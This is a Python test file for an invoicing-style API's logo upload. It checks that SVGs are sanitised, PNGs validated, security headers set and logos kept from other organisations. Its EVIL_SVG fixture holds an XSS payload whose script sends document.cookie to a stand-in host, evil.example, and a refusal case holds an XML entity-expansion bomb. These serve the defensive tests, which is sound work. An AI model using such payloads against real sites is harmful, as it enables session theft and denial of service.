"""Logo upload through the API: multipart, size-limited, PNG checked, SVG sanitised, served with a
locked-down content policy, one organisation's logo invisible to another."""

from __future__ import annotations

from sqlalchemy import select

from fiscus.adapters.db import tables as t
from fiscus.adapters.db.engine import Database
from fiscus.domain.clock import FixedClock
from fiscus.services.access import create_api_key
from tests.api_support import api_client, auth
from tests.builders import make_tenant
from tests.unit.domain.test_organization_settings import png

EVIL_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<a xlink:href="javascript:alert(1)"><text>click</text></a>'
    b'<image href="https://evil.example/pixel.png"/><rect width="8" height="8" fill="#123"/></svg>'
)


def test_upload_sanitises_an_svg_and_serves_it_safely(db: Database, clock: FixedClock) -> None:
    bg = make_tenant(db, clock, "bg", slug="logo-bg")
    us = make_tenant(db, clock, "us", slug="logo-us")
    key = create_api_key(db, clock, bg.org_id).secret
    other = create_api_key(db, clock, us.org_id).secret
    with api_client(db, clock) as api:
        up = api.post(
            "/api/v1/organization/logo",
            headers=auth(key),
            files={"file": ("x.svg", EVIL_SVG, "image/svg+xml")},
        )
        assert up.status_code == 200, up.text
        body = up.json()
        assert body["content_type"] == "image/svg+xml"
        assert len(body["removed"]) >= 4
        served = api.get("/api/v1/organization/logo", headers=auth(key))
        assert served.status_code == 200
        assert served.headers["content-type"].startswith("image/svg+xml")
        assert "default-src 'none'" in served.headers["content-security-policy"]
        assert served.headers["x-content-type-options"] == "nosniff"
        for needle in (b"script", b"onload", b"javascript", b"evil.example"):
            assert needle not in served.content
        assert b"<rect" in served.content
        assert api.get("/api/v1/organization/logo", headers=auth(other)).status_code == 404
        assert api.get("/api/v1/organization", headers=auth(key)).json()["logo"]["sha256"] == body["sha256"]
        removed = api.delete("/api/v1/organization/logo", headers=auth(key))
        assert removed.status_code == 200
        assert removed.json()["logo"] is None
        assert api.get("/api/v1/organization/logo", headers=auth(key)).status_code == 404
    with db.read() as conn:  # the bytes stay for documents that froze the hash
        kept = conn.execute(select(t.organization_logos.c.sha256)).scalars().all()
    assert kept == [body["sha256"]]


def test_png_upload_and_refusals_name_the_field(db: Database, clock: FixedClock) -> None:
    kz = make_tenant(db, clock, "kz", slug="logo-kz")
    key = create_api_key(db, clock, kz.org_id).secret
    path = "/api/v1/organization/logo"
    with api_client(db, clock) as api:
        ok = api.post(path, headers=auth(key), files={"file": ("l.png", png(64, 32), "image/png")})
        assert ok.status_code == 200, ok.text
        assert (ok.json()["width"], ok.json()["height"]) == (64, 32)
        served = api.get(path, headers=auth(key))
        assert served.content == png(64, 32)
        assert served.headers["content-type"] == "image/png"
        refusals = [
            ("big.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * (600 * 1024), "512 kB"),
            ("huge.png", png(5000, 1), "4096"),
            ("x.gif", b"GIF89a....", "PNG or an SVG"),
            ("x.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "nothing drawable"),
            (
                "bomb.svg",
                b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
                "DOCTYPE",
            ),
        ]
        for name, data, reason in refusals:
            response = api.post(
                path, headers=auth(key), files={"file": (name, data, "application/octet-stream")}
            )
            assert response.status_code in (413, 422), (name, response.text)
            if response.status_code == 422:
                problem = response.json()
                assert problem["errors"][0]["field"] == "file", name
                assert reason in problem["errors"][0]["detail"], name
        missing = api.post(path, headers=auth(key), data={"nothing": "here"})
        assert missing.status_code == 422
        assert (
            api.get("/api/v1/organization", headers=auth(key)).json()["logo"]["content_type"] == "image/png"
        )
